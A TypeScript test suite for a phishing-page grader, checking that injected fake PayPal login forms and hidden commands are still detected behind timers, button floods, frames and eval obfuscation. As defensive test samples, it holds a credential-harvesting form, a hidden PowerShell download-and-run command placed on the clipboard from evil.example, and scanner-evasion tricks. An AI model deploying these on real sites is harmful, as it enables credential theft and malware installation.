import { describe, expect, test } from 'bun:test'
import { grade } from '../../../src/trust/grade.ts'
import { captureOf } from '../captures.ts'

const URL_TEXT = 'https://www.elm-garden.com/page'
const PHISH =
  '<h1>Log in to PayPal</h1><p>Your account has been limited. Confirm your identity.</p>' +
  '<form action="https://drop.example.net/x.php" method=post><input type=email name=email placeholder=Email>' +
  '<input type=password name=password placeholder=Password><button>Log in</button></form>' +
  '<footer>&copy; 1999-2026 PayPal. All rights reserved.</footer>'
const DRAW = `document.title = 'PayPal: Log in to your account'; document.body.innerHTML = \`${PHISH}\``
/** The same where its markup stands nowhere in the script. */
const UNREAD = `eval(atob('${btoa(DRAW)}'))`
const COPY = 'navigator.clipboard.writeText("powershell -w hidden iwr http://evil.example/x.ps1 | iex")'
const LEAVE = 'location.href = "http://login.evil.com/" + ["ph", "ish"].join("")'

const script = (code: string) => `<script>${code.replaceAll('</', '<\\/')}</script>`
const times = (count: number, part: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => part(index)).join('')

/** The report on an honest page to which something was added. */
const reportOn = (added: string) =>
  grade(
    captureOf(URL_TEXT, {
      body: `<!doctype html><html lang=en><title>Elm Street garden club</title><body><h1>Elm Street garden club</h1>
        <p>We meet each first Sunday of the month. Bring your own gloves and a hat. In spring we plant beans and peas. In
        summer we water them every evening. The autumn fair takes place behind the church. Everybody brings a cake.</p>
        <a href="/about">About us</a> <a href="/dates">Dates</a><img src="/garden.jpg" alt="Garden">${added}`,
    }),
  )
const button = (index: number) => `<button onclick="${index}">Verify ${index}</button>`
const alike = (index: number) => `<button onclick="0">Verify ${index}</button>`
const next = (steps: number, draw = DRAW) =>
  `<div id=w></div>${script(`let n = 0; function go() { if (++n === ${steps}) { ${draw} } else w.innerHTML = '<button onclick="go()">Continue ' + n + '</button>' }; go()`)}`
const framed = (count: number) =>
  `${times(count, (index) => `<iframe srcdoc="<script>0//${index}</script>"></iframe>`)}<iframe id=z></iframe>${script(`z.setAttribute('srcdoc', '<script>' + ${JSON.stringify(DRAW)} + '<\\/script>')`)}`

/** What fills something that is bounded before the page does what it is for. */
const FILLED: readonly (readonly [what: string, added: string])[] = [
  ['nothing', script(DRAW)],
  [
    '300 timers',
    script(`for (let i = 0; i < 300; i++) setTimeout(() => 0, i); setTimeout(() => { ${DRAW} }, 1500)`),
  ],
  [
    '300 intervals',
    script(`for (let i = 0; i < 300; i++) setInterval(() => 0, 1); setTimeout(() => { ${DRAW} }, 1500)`),
  ],
  [
    'frames of an animation',
    script(`(function f() { requestAnimationFrame(f) })(); setTimeout(() => { ${DRAW} }, 9e3)`),
  ],
  [
    'pauses',
    script(
      `(async () => { for (;;) await new Promise((go) => setTimeout(go, 9)) })(); setTimeout(() => { ${DRAW} }, 9e3)`,
    ),
  ],
  ['half a minute', script(`setTimeout(() => { ${DRAW} }, 31e3)`)],
  ['ticks', script(`let n = 0; setInterval(() => { if (++n === 200) { ${DRAW} } }, 10)`)],
  [
    'messages',
    script(
      `let n = 0; addEventListener('message', () => { if (++n === 700) { ${DRAW} } else postMessage(0) }); postMessage(0)`,
    ),
  ],
  ['scripts', times(250, () => script('0')) + script(DRAW)],
  [
    '17 buttons',
    `${times(17, button)}<button onclick="go()">Continue</button>${script(`function go() { ${DRAW} }`)}`,
  ],
  [
    '300 buttons',
    `${times(300, button)}<button onclick="go()">Continue</button>${script(`function go() { ${DRAW} }`)}`,
  ],
  [
    '1,300 buttons that are alike',
    `${times(1300, alike)}<button onclick="go()">Continue</button>${script(`function go() { ${DRAW} }`)}`,
  ],
  [
    'sixteen tiles that are alike, of which the last one draws',
    `${times(16, (index) => `<i class=tile id=t${index}></i>`)}${script(`document.onclick = ({ target }) => { if (target.id === 't15') { ${DRAW} } }`)}`,
  ],
  ['five presses, one after the other', next(5)],
  [
    '30 fields',
    `${times(30, (index) => `<input name=f${index}>`)}<input id=z>${script(`z.oninput = () => { ${DRAW} }`)}`,
  ],
  ['two frames', framed(2)],
]

describe('what fills a bound does not push out what the page is for [T5]', () => {
  test.each(FILLED)('the form is seen behind %s', (_, added) => {
    expect(reportOn(added)).toMatchObject({ verdict: 'dangerous', grade: 'F' })
  })

  test.each([
    ['beacons', 'navigator.sendBeacon("/" + i)'],
    ['requests', 'fetch("/" + i)'],
    ['alerts', 'alert(i)'],
    ['entries of the history', 'history.pushState(i, "", "#" + i)'],
    [
      'questions',
      'navigator.permissions.query({ name: "geolocation" }), navigator.geolocation.getCurrentPosition()',
    ],
    ['scripts of its own', 'eval("0")'],
  ])('a copy is seen behind 300 %s', (_, filler) => {
    const { signals } = reportOn(
      script(`for (let i = 0; i < 300; i++) ${filler}; setTimeout(() => ${COPY}, 500)`),
    )
    expect(signals.map(({ id }) => id)).toContain('content.hidden_command')
  })
})

describe('what still is pushed out makes the report inconclusive [T5]', () => {
  test.each([
    [
      '2,500 timers',
      script(`for (let i = 0; i < 2500; i++) setTimeout(() => 0, i); setTimeout(() => { ${UNREAD} }, 9e3)`),
    ],
    ['eleven minutes', script(`setTimeout(() => { ${UNREAD} }, 66e4)`)],
    [
      'ticks that are shown',
      script(
        `let n = 0; setInterval(() => { document.querySelector('h1').textContent = n; if (++n === 9e3) { ${UNREAD} } }, 100)`,
      ),
    ],
    [
      'messages without end',
      script(
        `addEventListener('message', () => postMessage(0)); postMessage(0); setTimeout(() => { ${UNREAD} })`,
      ),
    ],
    [
      '1,300 buttons',
      `${times(1300, button)}<button onclick="go()">Continue</button>${script(`function go() { ${UNREAD} }`)}`,
    ],
    ['twenty presses, one after the other', next(20, UNREAD)],
    [
      '120 fields',
      `${times(120, (index) => `<input name=f${index}>`)}<input id=z>${script(`z.oninput = () => { ${LEAVE} }`)}`,
    ],
    ['twelve frames', framed(12)],
    [
      'other ways out',
      script(`for (let i = 0; i < 300; i++) open("/" + i); setTimeout(() => ${LEAVE}, 500)`),
    ],
    [
      '2,000 calls within each other',
      script(`(function f(n) { if (n === 0) { ${UNREAD} } else f(n - 1) })(2000)`),
    ],
    [
      '100 MB',
      script(
        `const a = []; try { for (let i = 0; i < 100; i++) a.push(new Uint8Array(1e6)) } catch { throw 0 }; ${UNREAD}`,
      ),
    ],
  ])('behind %s', (_, added) => {
    const { verdict, confidence, coverage } = reportOn(added)
    expect({ verdict, confidence }).toEqual({ verdict: 'inconclusive', confidence: 0.3 })
    expect(coverage.limits).toContain('scripts_cut')
    expect(coverage.bounds).not.toEqual([])
  })
})

describe('what goes on for ever and changes nothing that is shown cuts nothing off [T5]', () => {
  test.each([
    ['an interval', 'setInterval(() => 0, 1000)'],
    ['many intervals', 'for (let i = 0; i < 50; i++) setInterval(() => 0, 16)'],
    ['an animation', '(function f() { requestAnimationFrame(f) })()'],
    [
      'an animation of styles',
      '(function f(t) { document.body.style.left = t + "px"; requestAnimationFrame(f) })(0)',
    ],
    ['a carousel of classes', 'setInterval(() => document.body.classList.toggle("on"), 5000)'],
    ['a timer that sets itself again', '(function f() { setTimeout(f, 250) })()'],
    ['pauses', '(async () => { for (;;) await new Promise((go) => setTimeout(go, 9)) })()'],
    ['a poll', 'setInterval(() => fetch("/news"), 30000)'],
  ])('%s', (_, code) => {
    const { verdict, confidence, coverage } = reportOn(script(code))
    expect({ verdict, confidence, bounds: coverage.bounds }).toEqual({
      verdict: 'benign',
      confidence: 0.9,
      bounds: [],
    })
  })
})
